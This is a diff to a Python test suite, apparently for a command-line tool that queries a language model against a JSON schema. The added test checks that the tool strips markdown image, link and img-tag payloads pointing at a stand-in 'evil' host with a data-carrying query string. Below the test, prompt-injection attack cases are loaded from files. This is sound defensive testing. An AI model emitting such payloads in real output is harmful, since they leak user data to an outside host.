@@ -231,6 +231,15 @@ def test_an_answer_by_a_schema_is_repaired_once(project):
         assert "schema" in error["message"] and len(server.requests) == 2
 
 
+def test_texts_of_an_answer_by_a_schema_are_text(project):
+    """Escapes hide nothing, and what is no markup stays as it is."""
+    project.write("schema.json", json.dumps({"type": "object", "required": ["rule", "list"], "properties": {"list": {"type": "array", "items": {}}}}))
+    said = '{"rule": "!\\u005bx](http:\\/\\/evil\\/?q=S) stay", "list": ["a\\u003cimg src=//evil/?q=S>b", "[c", "](//evil/?q=S) d", 1.50, null, true, {"k <b>": "a < b, \\"c\\""}]}'
+    with scripted(says(said)) as server:
+        answer = project.ask("--model", server.model, "--schema", "schema.json", "How long may goods be returned?")["answer"]
+    assert answer == '{"rule":"x stay","list":["ab","[c"," d",1.50,null,true,{"k ":"a < b, \\"c\\""}]}'
+
+
 # ---- attacks ----
 
 ATTACKS = [json.loads(line) for path in sorted((ROOT / "tests/injection").glob("*.jsonl")) for line in path.read_text(encoding="utf-8").splitlines()]
